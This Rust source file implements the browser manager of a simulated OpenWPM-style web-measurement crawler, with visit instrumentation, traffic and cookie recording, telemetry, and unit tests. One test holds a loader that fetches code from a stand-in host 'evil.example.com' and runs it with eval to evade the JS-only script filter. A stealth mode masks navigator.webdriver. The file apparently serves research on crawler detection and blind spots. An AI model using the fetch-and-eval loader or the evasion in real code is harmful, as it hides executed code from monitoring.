//! The browser manager: drives one emulated browser through page visits,
//! deploying the configured instruments (Fig. 1's "automation +
//! instrumentation" layers).

use std::cell::RefCell;
use std::rc::Rc;
use std::sync::Arc;

use browser::{CspPolicy, FingerprintProfile, Os, Page, PageTemplate, RunMode};
use jsengine::CompiledScript;
use netsim::{Cookie, HttpRequest, HttpResponse, ResourceType, Url};

use crate::config::{BrowserConfig, HttpSaveMode, JsInstrumentKind};
use crate::instrument::vanilla::{self, InstrumentedTemplate};
use crate::instrument::{honey, http, stealth, watch, StoreHandle};
use crate::records::RecordStore;
use crate::supervisor::FailureReason;

/// Seconds to idle on a page after load when its [`VisitSpec`] sets no
/// override (the paper uses 60).
const DWELL_SECONDS: u64 = 60;

/// The HTTP instrument's body filter: OpenWPM's JavaScript-only default,
/// which silent delivery evades (Sec. 5.4.2).
const HTTP_SAVE: HttpSaveMode = HttpSaveMode::JavascriptOnly;

/// One script delivered with a page.
#[derive(Clone, Debug)]
pub struct PageScript {
    /// Script URL; the host decides first/third-party attribution.
    pub url: String,
    /// Shared body: sites materialised from the same generator parameters
    /// (and repeat visits of one site) alias a single allocation, which the
    /// compile cache then parses once for all of them.
    pub source: std::sync::Arc<str>,
    /// Content type it was served with (silent-delivery payloads lie here).
    pub content_type: String,
}

impl PageScript {
    /// FNV-64 of the body — the script's identity in the corpus statistics,
    /// the verdict memo, the compile cache and the crawl archive's blob
    /// store. The compile cache keys on the body alone, so one body served
    /// under per-site URLs is compiled once; the served URL rides on each
    /// compiled handle.
    pub fn content_hash(&self) -> u64 {
        obs::fnv1a(self.source.as_bytes())
    }
}

/// Everything a site serves for one page visit.
#[derive(Clone, Debug, Default)]
pub struct VisitSpec {
    pub url: String,
    pub csp: Option<CspPolicy>,
    /// Scripts executed in document order.
    pub scripts: Vec<PageScript>,
    /// Resources reachable via `fetch`/dynamic `<script src>`:
    /// `(url, content_type, body)`.
    pub server_resources: Vec<(String, String, String)>,
    /// Static subresources of the page (images, css, fonts, ads…).
    pub static_requests: Vec<(String, ResourceType)>,
    /// Seconds to idle after load; defaults to 60.
    pub dwell_override_s: Option<u64>,
}

/// What the site serves *after* observing the client (the adaptive /
/// cloaking phase): computed by the caller from the visit's dynamic
/// traffic (e.g. detector verdict beacons).
#[derive(Clone, Debug, Default)]
pub struct SiteResponse {
    pub cookies: Vec<Cookie>,
    /// Requests the page makes after the site's verdict, recorded as given.
    pub extra_requests: Vec<(Url, ResourceType)>,
}

/// Outcome statistics of one visit.
#[derive(Clone, Debug)]
pub struct VisitStats {
    /// Whether the JS instrument ended up installed (false when CSP blocked
    /// the vanilla injection).
    pub instrumented: bool,
    /// Page-script errors swallowed during the visit.
    pub script_errors: usize,
    /// Names of installed honey properties (empty unless configured).
    pub honey_names: Vec<String>,
}

/// An OpenWPM-managed browser. Owns the record store its instruments write
/// into; the store persists across visits (one store per crawl, like the
/// real framework's per-crawl SQLite database).
pub struct Browser {
    pub config: BrowserConfig,
    store: StoreHandle,
    /// Browser instance number on the host (affects Ubuntu window offsets).
    pub instance: u32,
    visits: u64,
    /// Logical key of the item being visited (e.g. site rank), set by the
    /// crawl driver. When present, per-visit event-id seeds derive from
    /// `(config seed, key, page counter)` instead of this browser's visit
    /// history, so record content is independent of worker scheduling.
    visit_key: Option<u64>,
    /// Pages opened under the current visit key.
    key_pages: u64,
    /// Pre-built page realms, cloned per visit instead of rebuilt.
    templates: RealmTemplates,
    /// A vanilla browser's compiled instrument body, looked up when the
    /// browser is built: each browser a crawl (re)starts makes exactly one
    /// compile-cache lookup for it, whether or not it visits anything, and
    /// its instrumented template is built from this handle.
    instrument: Option<Arc<CompiledScript>>,
}

/// A browser's page-realm templates (see [`browser::realm`]): every page
/// starts from one, each is built on first use, and both are dropped
/// whenever [`Browser::instance`] changes (the profile depends on it).
#[derive(Default)]
struct RealmTemplates {
    /// The instance the templates were built for.
    instance: u32,
    /// The bare host-object realm: `Off` and `Stealth` pages, and vanilla
    /// pages whose CSP blocks the instrument's injection.
    plain: Option<PageTemplate>,
    /// The realm with the vanilla instrument already run in it, its
    /// wrappers capturing a placeholder `eid` that
    /// [`InstrumentedTemplate::bind`] re-binds per visit: every other
    /// vanilla page.
    instrumented: Option<InstrumentedTemplate>,
}

impl Browser {
    pub fn new(config: BrowserConfig) -> Browser {
        Browser {
            instrument: (config.js_instrument == JsInstrumentKind::Vanilla)
                .then(vanilla::compile_instrument),
            config,
            store: Rc::new(RefCell::new(RecordStore::new())),
            instance: 0,
            visits: 0,
            visit_key: None,
            key_pages: 0,
            templates: RealmTemplates::default(),
        }
    }

    /// Key subsequent visits by `key` (resetting the per-key page counter).
    /// Crawl drivers call this with the item's stable identity (site rank)
    /// before each visit; seeds then depend only on `(seed, key, page)`.
    pub fn set_visit_key(&mut self, key: u64) {
        self.visit_key = Some(key);
        self.key_pages = 0;
    }

    pub fn with_instance(mut self, instance: u32) -> Browser {
        self.instance = instance;
        self
    }

    /// The client profile this browser presents, including stealth geometry
    /// overrides.
    pub fn profile(&self) -> FingerprintProfile {
        let mut p =
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular).with_instance(self.instance);
        if self.config.js_instrument == JsInstrumentKind::Stealth {
            if let Some(g) = self.config.stealth.window_geometry {
                p.geometry = g;
            }
        }
        p
    }

    /// Shared handle to the crawl's record store.
    pub fn store(&self) -> StoreHandle {
        self.store.clone()
    }

    /// Move the accumulated records out (end of crawl).
    pub fn take_store(&mut self) -> RecordStore {
        std::mem::take(&mut *self.store.borrow_mut())
    }

    /// Build the page for a visit with instrumentation installed — exposed
    /// separately so experiments can interleave custom page interactions.
    ///
    /// An unparseable visit URL is a typed [`FailureReason::BadUrl`]
    /// failure (recorded by the supervisor), not a worker crash.
    pub fn open_page(&mut self, spec: &VisitSpec) -> Result<(Page, VisitStats), FailureReason> {
        self.visits += 1;
        let url = Arc::new(Url::parse(&spec.url).ok_or(FailureReason::BadUrl)?);
        // Vanilla pages the instrument can enter start from the realm it
        // already ran in; only the per-visit binding remains below.
        let preinstrumented = self.config.js_instrument == JsInstrumentKind::Vanilla
            && !spec.csp.as_ref().is_some_and(|c| c.blocks_inline_scripts);
        if self.templates.instance != self.instance {
            self.templates = RealmTemplates { instance: self.instance, ..Default::default() };
        }
        let mut page = if preinstrumented {
            if self.templates.instrumented.is_none() {
                let instrument =
                    self.instrument.get_or_insert_with(vanilla::compile_instrument).clone();
                self.templates.instrumented =
                    Some(InstrumentedTemplate::new(self.profile(), &instrument));
            }
            let tpl = self.templates.instrumented.as_ref().expect("template built above");
            tpl.instantiate(url.clone(), spec.csp.clone())
        } else {
            if self.templates.plain.is_none() {
                self.templates.plain = Some(PageTemplate::new(self.profile()));
            }
            let tpl = self.templates.plain.as_ref().expect("template built above");
            tpl.instantiate(url.clone(), spec.csp.clone())
        };
        for (rurl, ctype, body) in &spec.server_resources {
            page.add_server_resource(rurl, ctype, body);
        }
        let page_url = url.to_string();
        // Per-visit event-id seed, like OpenWPM's per-load random id.
        // Keyed visits derive it from the item's stable identity so the
        // same site produces the same ids under any worker count.
        let visit_seed = match self.visit_key {
            Some(key) => {
                self.key_pages += 1;
                let mut x = self.config.seed
                    ^ key.wrapping_mul(0x9E37_79B9_7F4A_7C15)
                    ^ self.key_pages.wrapping_mul(0xD6E8_FEB8_6659_FD93);
                x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
                x ^ (x >> 31)
            }
            None => self.config.seed ^ self.visits.wrapping_mul(0x9E37_79B9),
        };
        if obs::enabled() {
            page.enable_profiling();
        }
        let instrumented = match self.config.js_instrument {
            JsInstrumentKind::Off => true,
            JsInstrumentKind::Vanilla if preinstrumented => {
                let tpl = self.templates.instrumented.as_ref().expect("page came from it");
                tpl.bind(&mut page, visit_seed, self.store.clone(), page_url.clone());
                true
            }
            JsInstrumentKind::Vanilla => {
                vanilla::install(&mut page, visit_seed, self.store.clone(), page_url.clone())
            }
            JsInstrumentKind::Stealth => {
                stealth::install(
                    &mut page,
                    &self.config.stealth,
                    self.store.clone(),
                    page_url.clone(),
                );
                true
            }
        };
        if self.config.watch_openwpm_props {
            watch::install(&mut page, self.store.clone(), page_url.clone());
        }
        let honey_names = if self.config.honey_properties > 0
            && self.config.js_instrument != JsInstrumentKind::Off
        {
            honey::install(
                &mut page,
                self.store.clone(),
                visit_seed,
                self.config.honey_properties,
            )
        } else {
            Vec::new()
        };
        if !instrumented {
            obs::add("instrument.hook_install_failures", 1);
            obs::emit(obs::Event::new(0, "hook_install_failed").attr("page", page_url));
        }
        Ok((page, VisitStats { instrumented, script_errors: 0, honey_names }))
    }

    /// Visit a page: load static resources, run scripts, dwell, then let
    /// `responder` decide the site's adaptive response from the observed
    /// dynamic traffic (detector beacons etc.). Browser crashes are the
    /// supervisor's to inject and recover from (see [`crate::fault`]).
    pub fn visit(
        &mut self,
        spec: &VisitSpec,
        responder: impl FnOnce(&[HttpRequest]) -> SiteResponse,
    ) -> Result<VisitStats, FailureReason> {
        let (mut page, mut stats) = self.open_page(spec)?;
        // The page's own URL: every request record of the visit shares it.
        let url = page.host.borrow().page_url.clone();
        let page_url = url.to_string();
        let store_before = if obs::enabled() {
            Some(StoreCounts::of(&self.store.borrow()))
        } else {
            None
        };
        let request = |target: Url, resource_type: ResourceType, time_ms: u64| HttpRequest {
            url: target,
            page: url.clone(),
            resource_type,
            method: "GET",
            time_ms,
        };

        // Static load: main frame plus declared subresources.
        let mut static_reqs = vec![request(Url::clone(&url), ResourceType::MainFrame, 0)];
        for (rurl, rt) in &spec.static_requests {
            if let Some(u) = Url::parse(rurl) {
                static_reqs.push(request(u, *rt, 0));
            }
        }
        // Script subresources are requests too, and their bodies flow
        // through the HTTP instrument's save filter.
        for script in &spec.scripts {
            if let Some(u) = Url::parse(&script.url) {
                static_reqs.push(request(u.clone(), ResourceType::Script, 0));
                http::record_response(
                    &mut self.store.borrow_mut(),
                    &HttpResponse {
                        url: u,
                        status: 200,
                        content_type: script.content_type.clone(),
                        body: script.source.clone(),
                    },
                    HTTP_SAVE,
                    &page_url,
                );
            }
        }
        http::record_requests(&mut self.store.borrow_mut(), static_reqs);

        // Execute page scripts in document order, compiling through the
        // crawl's cache: provider scripts shared across hundreds of sites
        // (and every supervisor retry of this visit) parse once. Execution
        // time is attributed to the realm's backend phase (`jsengine.vm`
        // vs `jsengine.interp`); under the VM the lazy bytecode compile is
        // warmed first so it lands in its own `jsengine.compile_bc` phase
        // rather than polluting run time.
        let engine = page.interp.engine;
        for script in &spec.scripts {
            let ran = jsengine::compile_cached(&script.source, &script.url)
                .map_err(|_| ())
                .and_then(|cs| {
                    let _ph = if engine == jsengine::Engine::Vm {
                        cs.chunk();
                        obs::prof::enter(&obs::prof::JS_VM)
                    } else {
                        obs::prof::enter(&obs::prof::JS_INTERP)
                    };
                    page.run_script(&cs).map_err(|_| ())
                });
            if ran.is_err() {
                stats.script_errors += 1;
            }
        }

        // Dwell: drains extension frame injections, setTimeout detectors…
        let dwell_s = spec.dwell_override_s.unwrap_or(DWELL_SECONDS);
        page.advance(dwell_s * 1000);

        // Dynamic traffic (fetches, beacons, csp reports, dynamic scripts),
        // taken out of the page. Bodies of dynamically-fetched server
        // resources first.
        let dynamic = std::mem::take(&mut page.host.borrow_mut().traffic);
        for req in &dynamic {
            for (rurl, ctype, body) in &spec.server_resources {
                if req.url.to_string() == *rurl
                    || rurl.ends_with(&format!("{}{}", req.url.host, req.url.path))
                {
                    http::record_response(
                        &mut self.store.borrow_mut(),
                        &HttpResponse {
                            url: req.url.clone(),
                            status: 200,
                            content_type: ctype.clone(),
                            body: body.as_str().into(),
                        },
                        HTTP_SAVE,
                        &page_url,
                    );
                }
            }
        }

        // Adaptive phase: the site reacts to what it observed. The dynamic
        // requests are recorded after it runs, ahead of its own.
        let response = responder(&dynamic);
        let extra = response
            .extra_requests
            .into_iter()
            .map(|(u, rt)| request(u, rt, dwell_s * 1000))
            .collect();
        let mut store = self.store.borrow_mut();
        http::record_requests(&mut store, dynamic);
        http::record_requests(&mut store, extra);
        store.cookies.extend(response.cookies);
        // Cookies written via document.cookie are first-party session
        // cookies from the page's own scripts.
        let js_cookies = std::mem::take(&mut page.host.borrow_mut().js_cookies);
        for raw in js_cookies {
            if let Some((name, value)) = raw.split_once('=') {
                store.cookies.push(Cookie {
                    name: name.trim().to_owned(),
                    value: value.split(';').next().unwrap_or("").trim().to_owned(),
                    domain: url.host.clone(),
                    page_domain: url.host.clone(),
                    expires_in_s: None,
                });
            }
        }
        drop(store);
        if let Some(before) = store_before {
            let after = StoreCounts::of(&self.store.borrow());
            after.report_delta(&before);
        }
        if let Some(profile) = page.take_profile() {
            obs::prof::count_builtins(&profile.builtins);
            obs::observe("jsengine.ops_per_visit", profile.ops);
            obs::observe("jsengine.calls_per_visit", profile.calls);
            obs::observe("jsengine.max_call_depth", profile.max_depth as u64);
            obs::add("jsengine.evals", profile.evals);
            obs::emit(
                obs::Event::new(0, "js_profile")
                    .attr("ops", profile.ops)
                    .attr("calls", profile.calls)
                    .attr("evals", profile.evals)
                    .attr("max_depth", profile.max_depth),
            );
        }
        Ok(stats)
    }
}

/// Record-store section lengths, used to compute the per-visit deltas the
/// telemetry layer reports (one batched event per visit, not one per
/// record — a full scan commits millions of records).
struct StoreCounts {
    js_calls: usize,
    http_requests: usize,
    http_responses: usize,
    saved_scripts: usize,
    cookies: usize,
    malformed: u64,
}

impl StoreCounts {
    fn of(store: &RecordStore) -> StoreCounts {
        StoreCounts {
            js_calls: store.js_calls.len(),
            http_requests: store.http_requests.len(),
            http_responses: store.http_responses.len(),
            saved_scripts: store.saved_scripts.len(),
            cookies: store.cookies.len(),
            malformed: store.malformed_events,
        }
    }

    fn report_delta(&self, before: &StoreCounts) {
        let js = (self.js_calls - before.js_calls) as u64;
        let req = (self.http_requests - before.http_requests) as u64;
        let resp = (self.http_responses - before.http_responses) as u64;
        let scripts = (self.saved_scripts - before.saved_scripts) as u64;
        let cookies = (self.cookies - before.cookies) as u64;
        let malformed = self.malformed - before.malformed;
        obs::add("records.js_calls", js);
        obs::add("records.http_requests", req);
        obs::add("records.http_responses", resp);
        obs::add("records.saved_scripts", scripts);
        obs::add("records.cookies", cookies);
        obs::emit(
            obs::Event::new(0, "records")
                .attr("js_calls", js)
                .attr("http_requests", req)
                .attr("http_responses", resp)
                .attr("saved_scripts", scripts)
                .attr("cookies", cookies)
                .attr("malformed", malformed),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(url: &str) -> VisitSpec {
        VisitSpec { url: url.into(), dwell_override_s: Some(1), ..Default::default() }
    }

    #[test]
    fn visit_records_main_frame_and_scripts() {
        let mut b = Browser::new(BrowserConfig::vanilla(1));
        let mut s = spec("https://news.example.com/");
        s.scripts.push(PageScript {
            url: "https://news.example.com/app.js".into(),
            source: "var x = navigator.userAgent;".into(),
            content_type: "text/javascript".into(),
        });
                let _ = b.visit(&s, |_| SiteResponse::default());
        let store = b.take_store();
        assert!(store
            .http_requests
            .iter()
            .any(|r| r.resource_type == ResourceType::MainFrame));
        assert!(store.http_requests.iter().any(|r| r.resource_type == ResourceType::Script));
        assert_eq!(store.saved_scripts.len(), 1);
        assert_eq!(store.calls_to(".userAgent").count(), 1);
    }

    #[test]
    fn responder_sees_beacons_and_serves_cookies() {
        let mut b = Browser::new(BrowserConfig::vanilla(2));
        let mut s = spec("https://shop.example.com/");
        s.scripts.push(PageScript {
            url: "https://bd.example.net/detect.js".into(),
            source: "navigator.sendBeacon('https://bd.example.net/verdict?bot=1');".into(),
            content_type: "text/javascript".into(),
        });
                let _ = b.visit(&s, |traffic| {
            let bot = traffic
                .iter()
                .any(|r| r.resource_type == ResourceType::Beacon && r.url.query.contains("bot=1"));
            assert!(bot, "responder must see the verdict beacon");
            SiteResponse {
                cookies: vec![Cookie {
                    name: "throttled".into(),
                    value: "1".into(),
                    domain: "shop.example.com".into(),
                    page_domain: "shop.example.com".into(),
                    expires_in_s: None,
                }],
                extra_requests: vec![],
            }
        });
        assert_eq!(b.take_store().cookies.len(), 1);
    }

    #[test]
    fn stealth_browser_masks_webdriver_during_visit() {
        let mut b = Browser::new(BrowserConfig::stealth(3));
        let mut s = spec("https://site.example.com/");
        s.scripts.push(PageScript {
            url: "https://site.example.com/d.js".into(),
            source: "navigator.sendBeacon('https://site.example.com/v?wd=' + navigator.webdriver);"
                .into(),
            content_type: "text/javascript".into(),
        });
        let mut saw = None;
                let _ = b.visit(&s, |traffic| {
            saw = traffic
                .iter()
                .find(|r| r.resource_type == ResourceType::Beacon)
                .map(|r| r.url.query.clone());
            SiteResponse::default()
        });
        assert_eq!(saw.as_deref(), Some("wd=false"));
    }

    #[test]
    fn silent_delivery_bypasses_js_only_http_instrument_in_visit() {
        assert_eq!(HTTP_SAVE, HttpSaveMode::JavascriptOnly);
        let mut b = Browser::new(BrowserConfig::vanilla(4));
        let mut s = spec("https://evil.example.com/");
        s.server_resources.push((
            "https://evil.example.com/cheat".into(),
            "text/plain".into(),
            "window.secretRan = true;".into(),
        ));
        s.scripts.push(PageScript {
            url: "https://evil.example.com/loader.js".into(),
            source: "fetch('https://evil.example.com/cheat').then(function (r) { return r.text(); }).then(function (code) { eval(code); });".into(),
            content_type: "text/javascript".into(),
        });
                let _ = b.visit(&s, |_| SiteResponse::default());
        let store = b.take_store();
        // The payload executed (loader is saved, payload request visible)…
        assert!(store
            .http_requests
            .iter()
            .any(|r| r.url.path == "/cheat" && r.resource_type == ResourceType::XmlHttpRequest));
        // …but its body was never saved as a script.
        assert!(
            !store.saved_scripts.iter().any(|s| s.url.contains("/cheat")),
            "silently delivered code must evade the JS-only filter"
        );
    }

    #[test]
    fn request_records_share_the_page_url() {
        let mut b = Browser::new(BrowserConfig::vanilla(6));
        let mut s = spec("https://shop.example.com/");
        s.static_requests.push(("https://cdn.example.net/logo.png".into(), ResourceType::Image));
        s.scripts.push(PageScript {
            url: "https://shop.example.com/app.js".into(),
            source: "navigator.sendBeacon('https://bd.example.net/verdict?bot=0');".into(),
            content_type: "text/javascript".into(),
        });
        let mut own = None;
        b.visit(&s, |traffic| {
            // Dynamic requests are pushed by the page host, with its URL.
            own = traffic.first().map(|r| r.page.clone());
            let ad = Url::parse("https://ads.example.org/slot0.png").unwrap();
            SiteResponse { extra_requests: vec![(ad, ResourceType::Image)], ..Default::default() }
        })
        .unwrap();
        let own = own.expect("the beacon reached the responder");
        let store = b.take_store();
        let count = |rt: ResourceType| {
            store.http_requests.iter().filter(|r| r.resource_type == rt).count()
        };
        assert_eq!(count(ResourceType::MainFrame), 1);
        assert_eq!(count(ResourceType::Script), 1);
        assert_eq!(count(ResourceType::Beacon), 1);
        assert_eq!(count(ResourceType::Image), 2, "static and adaptive");
        for r in &store.http_requests {
            assert!(Arc::ptr_eq(&r.page, &own), "{} holds its own page URL", r.url);
        }
    }

    #[test]
    fn geometry_override_only_in_stealth() {
        let v = Browser::new(BrowserConfig::vanilla(5));
        assert_eq!(v.profile().geometry.screen_width, 2560);
        let s = Browser::new(BrowserConfig::stealth(5));
        assert_eq!(s.profile().geometry.screen_width, 1920);
    }
}
